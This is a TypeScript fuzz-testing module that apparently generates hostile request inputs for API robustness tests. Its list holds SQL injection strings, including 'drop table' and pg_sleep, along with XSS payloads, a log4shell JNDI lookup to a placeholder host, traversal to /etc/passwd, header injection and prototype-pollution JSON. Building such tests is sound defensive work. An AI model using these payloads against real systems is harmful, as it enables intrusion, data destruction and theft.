import fc from 'fast-check';
import { badDate, badResidentId, badUscc, toFullWidth } from './hostile-identifiers.ts';

/** Strings, numbers and JSON values a careless or hostile client sends, and mutations of valid bodies. */

const INJECTIONS = [
  "' or '1'='1",
  "'; drop table subjects; --",
  '" or 1=1 --',
  "1' union select null, current_user --",
  '$$; select pg_sleep(30); $$',
  "'); select pg_sleep(30); --",
  '\\',
  '%',
  '_',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell lookup, sent as it is
  '${jndi:ldap://x.example/a}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '\r\nX-Injected: 1',
  '\uFEFF',
  '\u202Eevil\u202C',
  '\u200B\u200C\u200D',
  '\uD800',
  '\uDFFF\uD800',
  '🏳️‍🌈👨‍👩‍👧‍👦',
  'null',
  'undefined',
  'NaN',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  ' ',
  '',
] as const;

/** Full-width forms of ASCII (ＡＢＣ１２３), as input methods produce them. */
const fullWidthChar = fc.integer({ min: 0xff01, max: 0xff5e }).map((code) => String.fromCodePoint(code));
const cjkChar = fc.integer({ min: 0x4e00, max: 0x9fff }).map((code) => String.fromCodePoint(code));
const controlChar = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCodePoint(code));
const CJK_PUNCTUATION = ['（', '）', '《', '》', '〔', '〕', '、', '。', '，', '：', '　', '·', '—', '～'];

/** Mixed CJK, full-width and ASCII text, as department systems and people type names. */
export const mixedCjkText: fc.Arbitrary<string> = fc.string({
  unit: fc.oneof(cjkChar, fullWidthChar, fc.constantFrom(...CJK_PUNCTUATION), fc.string({ maxLength: 1 })),
  maxLength: 40,
});

/** Long strings, past every documented limit: a name of 10,000 characters, a code of 70 kB. */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 65, max: 70_000 }), fc.constantFrom('A', '信', '9', '\u0000', '%', "'"))
  .map(([length, unit]) => unit.repeat(length));

/** Any string a hostile client sends: injection payloads, control characters, full-width, CJK, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: mixedCjkText },
  { weight: 1, arbitrary: fc.string({ unit: fullWidthChar, minLength: 1, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlChar, minLength: 1, maxLength: 8 }) },
  { weight: 1, arbitrary: hugeString },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...INJECTIONS), mixedCjkText)
      .map(([payload, text]) => `${text}${payload}`),
  },
);

/** Numbers for page sizes, limits and pages, as query-string text: negative, zero, huge, fractional, not numbers. */
export const hostileNumberText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '-1',
    '0',
    '1.5',
    '1e3',
    '1e309',
    '99999999999999999999999',
    '9007199254740993',
    '2147483648',
    'NaN',
    'Infinity',
    '0x10',
    '１０',
    '٣',
    '',
    ' 5',
    '5 ',
    '+5',
    '05',
  ),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 }).map(String),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
);

/** Values of the wrong type for a field that wants a string, or a string for one that wants anything else. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  // Fresh ones each time: mutated() adds keys to the objects it is given.
  fc.constant(null).map(() => []),
  fc.constant(null).map(() => ({})),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  hostileString,
);

/** JSON text nested thousands deep, as raw text (JSON.stringify of such a value would be the same). */
export const deeplyNestedJson: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array', 'object', 'mixed'))
  .map(([depth, shape]) => {
    if (shape === 'array') return `${'['.repeat(depth)}1${']'.repeat(depth)}`;
    if (shape === 'object') return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    return `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;
  });

const MALFORMED_JSON = [
  '',
  ' ',
  '{',
  '}',
  '{"a":',
  '[1,2',
  '{"a":1,}',
  "{'a':1}",
  '{a:1}',
  'nul',
  'NaN',
  'undefined',
  '1e99999',
  '"unterminated',
  '{"a":"\\u00"}',
  '{"a":"\\x41"}',
  '\uFEFF{}',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '\u0000',
] as const;

/** Text that is not JSON, or JSON a careless parser gets wrong. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...MALFORMED_JSON),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc
    .json({ maxDepth: 3 })
    .chain((text) =>
      text.length < 2
        ? fc.constant(`${text}{`)
        : fc.nat({ max: text.length - 2 }).map((n) => text.slice(0, n + 1)),
    ),
);

/** Any JSON value (wrong shapes, wrong types, prototype keys), small enough to send often. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'a'), wrongType, {
    maxKeys: 3,
  }),
  wrongType,
);

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

function pathsOf(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  const here = [path];
  if (Array.isArray(value)) return [...here, ...value.flatMap((item, i) => pathsOf(item, [...path, i]))];
  if (value !== null && typeof value === 'object') {
    return [...here, ...Object.entries(value).flatMap(([key, item]) => pathsOf(item, [...path, key]))];
  }
  return here;
}

/** Characters that break a value that was right: NUL (PostgreSQL text cannot hold it), quotes, a lone surrogate. */
const POISON = ['\u0000', "'", '"', '\\', '%', '_', '\uD800', '\u202E', '\n', '　', '；'] as const;

/** `valid` with the value at `path` made `edit(value)` (removed when that is REMOVE); a deep copy. */
function replaceAt(valid: unknown, path: (string | number)[], edit: (value: unknown) => unknown): unknown {
  const copy = JSON.parse(JSON.stringify(valid)) as Json;
  if (path.length === 0) {
    const replacement = edit(copy);
    return replacement === REMOVE ? undefined : replacement;
  }
  let parent: Json = copy;
  for (const step of path.slice(0, -1)) parent = (parent as Record<string | number, Json>)[step]!;
  const last = path.at(-1)!;
  const container = parent as Record<string | number, unknown>;
  const replacement = edit(container[last]);
  if (replacement === REMOVE) {
    if (Array.isArray(container)) container.splice(Number(last), 1);
    else delete container[last];
  } else {
    container[last] = replacement;
  }
  return copy;
}

const REMOVE = Symbol('remove');

/**
 * A valid request body with one to three of its values replaced by hostile ones (wrong types, injections, huge
 * strings, bad identifiers and dates), poisoned (a NUL or a quote put into a valid string), removed, or extra keys
 * added: the inputs closest to the valid ones.
 */
export function mutated(valid: unknown, ...extra: fc.Arbitrary<unknown>[]): fc.Arbitrary<unknown> {
  const paths = pathsOf(valid);
  const replaced = fc
    .oneof(
      wrongType,
      hostileString,
      badUscc,
      badResidentId,
      badDate,
      hostileNumberText,
      fc.constant(REMOVE),
      ...extra,
    )
    .map((value) => () => value);
  const poison = fc.tuple(fc.nat(), fc.constantFrom(...POISON)).map(([at, char]) => (value: unknown) => {
    if (typeof value !== 'string') return value;
    const i = at % (value.length + 1);
    return `${value.slice(0, i)}${char}${value.slice(i)}`;
  });
  const replacement = fc.oneof({ weight: 4, arbitrary: replaced }, { weight: 1, arbitrary: poison });
  const edit = fc.tuple(fc.constantFrom(...paths), replacement);
  const extraKey = fc.tuple(fc.constantFrom('__proto__', 'unexpected', 'constructor', '名称'), wrongType);
  return fc
    .tuple(fc.array(edit, { minLength: 1, maxLength: 3 }), fc.option(extraKey, { nil: undefined }))
    .map(([edits, key]) => {
      let value: unknown = valid;
      for (const [path, next] of edits) {
        // A path removed by an earlier edit is left alone.
        try {
          value = replaceAt(value, path, next);
        } catch {
          // the path no longer exists in the edited value
        }
      }
      if (key && value !== null && typeof value === 'object' && !Array.isArray(value)) {
        value = JSON.parse(JSON.stringify(value)) as object;
        // defineProperty, so that '__proto__' becomes an own key as JSON.parse would make it.
        Object.defineProperty(value, key[0], {
          value: key[1],
          enumerable: true,
          configurable: true,
          writable: true,
        });
      }
      return value;
    });
}

/** A valid value with a poisonous character put in, or its characters made full-width. */
export function poisoned(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    fc.tuple(valid, fc.nat(), fc.constantFrom(...POISON)).map(([value, at, poison]) => {
      const i = value.length === 0 ? 0 : at % (value.length + 1);
      return `${value.slice(0, i)}${poison}${value.slice(i)}`;
    }),
    valid.map(toFullWidth),
  );
}
